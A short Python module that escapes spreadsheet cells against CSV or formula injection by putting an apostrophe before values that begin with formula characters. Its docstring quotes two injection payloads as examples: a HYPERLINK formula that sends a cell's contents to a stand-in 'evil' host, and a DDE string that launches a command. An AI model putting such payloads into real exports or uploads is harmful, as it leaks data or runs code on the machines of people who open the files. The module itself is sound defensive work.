"""Text cells that a spreadsheet must show, never run (CSV or formula injection).

A team named ``=HYPERLINK("http://evil/?"&A2, "Platform")`` or ``@SUM(1+1)*cmd|' /C calc'!A0``
comes from a roster upload like any other name; exported to CSV and opened in Excel, LibreOffice
or Google Sheets, a cell that starts with one of ``FORMULA_STARTS`` is evaluated. The CSV writers
prefix such a cell with an apostrophe, which every spreadsheet reads as "this is text" (OWASP's
advice); the XLSX writer stores it as a typed string instead, so its value is unchanged.
"""

from __future__ import annotations

# = + - @ and the tab and carriage return that OWASP lists, the minus sign U+2212 that a word
# processor puts for "-", and the full-width forms that Excel on an East Asian keyboard accepts.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\u2212", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def formula_like(value: str) -> bool:
    """Whether a spreadsheet could take ``value`` (as the text of a cell) for a formula."""
    return value.startswith(FORMULA_STARTS)


def spreadsheet_text(value: str) -> str:
    """``value`` as a CSV cell's text: with a leading apostrophe if it would be read as a formula."""
    return "'" + value if formula_like(value) else value
